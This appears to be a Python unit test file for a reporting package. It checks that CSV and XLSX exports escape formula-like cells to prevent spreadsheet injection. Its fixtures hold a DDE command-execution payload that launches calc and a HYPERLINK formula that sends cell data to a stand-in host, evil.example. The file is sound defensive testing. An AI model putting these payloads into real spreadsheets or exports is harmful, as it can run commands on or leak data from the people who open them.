"""Exports never run what people typed (issue 19, point 2; OWASP CSV injection): a cell starting with
`=`, `+`, `-`, `@`, tab or CR is text in the XLSX and carries a leading `'` in the CSV."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from huifang_reporting.adapters.exports import to_csv, to_xlsx
from huifang_reporting.service_layer.summaries import CALLBACK_COLUMNS
from openpyxl import load_workbook

pytestmark = pytest.mark.unit

HOSTILE = ["=cmd|' /C calc'!A0", "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


def summary(comments: list[str], manager_comment: str | None = None) -> dict[str, Any]:
    rows = [
        {"no": n, "callback_id": f"cb-{n}", "caller": "王芳", "rating": "满意", "comments": text, "status": "已回访"}
        for n, text in enumerate(comments, start=1)
    ]
    return {
        "title": "回访记录汇总表",
        "title_en": "Monthly callback summary",
        "estate_id": "E1",
        "estate_name": '=HYPERLINK("http://evil.example/?"&A1)',  # names come from the ERP: text too
        "period": "2026-02",
        "timezone": "Asia/Shanghai",
        "columns": CALLBACK_COLUMNS,
        "rows": rows,
        "manager_comment": None
        if manager_comment is None
        else {"comment": manager_comment, "written_by": "mgr-1", "written_at": "2026-03-01T00:00:00+08:00"},
    }


def test_the_csv_prefixes_every_formula_like_cell_with_a_quote() -> None:
    text = to_csv(summary([*HOSTILE, "很满意 = 好"])).decode("utf-8-sig")
    comments = [row[-1] for row in csv.reader(io.StringIO(text, newline=""))][1:]
    assert comments == [f"'{value}" for value in HOSTILE] + ["很满意 = 好"]


def test_the_csv_keeps_numbers_as_numbers() -> None:
    text = to_csv(summary(["好"])).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text)))[1][0] == "1"


def test_the_xlsx_stores_formula_like_cells_as_text_with_their_exact_value() -> None:
    book = load_workbook(io.BytesIO(to_xlsx(summary(HOSTILE, manager_comment="=1+1"))))
    sheet = book.active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    formulas = [cell.coordinate for cell in cells if cell.data_type == "f"]
    comments = [sheet.cell(row=5 + i, column=len(CALLBACK_COLUMNS)).value for i in range(len(HOSTILE))]
    assert formulas == []
    assert comments == [value.replace("\r", "\n") for value in HOSTILE]  # XML reads a CR back as LF
    assert sheet["A2"].value.startswith("=HYPERLINK")
    assert sheet.cell(row=5 + len(HOSTILE) + 1, column=2).value == "=1+1"
